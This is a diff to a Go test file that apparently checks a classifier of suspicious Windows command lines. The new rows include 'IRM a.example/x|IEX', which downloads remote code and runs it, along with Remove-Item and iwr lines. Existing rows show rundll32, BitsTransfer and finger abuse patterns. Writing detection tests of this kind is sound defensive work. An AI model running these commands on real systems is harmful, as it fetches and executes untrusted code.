@@ -60,6 +60,9 @@ func TestWhoseSwitchItIs(t *testing.T) {
 
 		{"powershell.exe", `powershell -c Start-BitsTransfer \\a\b c`, "download"},
 		{"rundll32.exe", `rundll32 \\files.example@SSL\DavWWWRoot\a.dll,b`, "download proxy_execution"},
+		{"powershell.exe", `powershell -c "Remove-Item a -Confirm false"`, ""},
+		{"powershell.exe", `powershell -c "IRM a.example/x|IEX"`, "download"},
+		{"powershell.exe", `powershell -c "confirm;(iwr a.example)"`, "download"},
 		{"finger.exe", `finger a@b.example`, "download"},
 		{"cmd.exe", `cmd /c %AppData%\a.cmd`, "profile"},
 		{"powershell.exe", `powershell -f $env:TEMP\a.ps1`, "open_folder"},
